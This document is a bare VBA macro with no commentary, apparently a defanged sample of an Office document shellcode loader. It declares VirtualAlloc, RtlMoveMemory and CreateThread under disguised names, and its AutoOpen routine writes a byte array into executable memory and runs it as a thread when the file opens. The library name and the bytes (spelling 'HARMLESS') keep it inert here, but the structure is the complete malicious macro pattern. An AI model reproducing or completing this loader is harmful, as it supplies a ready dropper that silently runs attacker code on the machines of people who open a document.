Private Declare PtrSafe Function Room Lib "harmless-none.dll" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal n As Long, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function Fill Lib "harmless-none.dll" Alias "RtlMoveMemory" (ByVal d As LongPtr, ByRef s As Any, ByVal n As Long) As LongPtr
Private Declare PtrSafe Function Begin Lib "harmless-none.dll" Alias "CreateThread" (ByVal a As Long, ByVal s As Long, ByVal p As LongPtr, ByVal q As Long, ByVal f As Long, ByRef i As Long) As LongPtr
Sub AutoOpen()
    Dim codes, place As LongPtr, n As Long, one As Long
    codes = Array(72, 65, 82, 77, 76, 69, 83, 83)
    place = Room(0, UBound(codes), &H1000, &H40)
    For n = LBound(codes) To UBound(codes)
        one = codes(n)
        Fill place + n, one, 1
    Next n
    Begin 0, 0, place, 0, 0, 0
End Sub
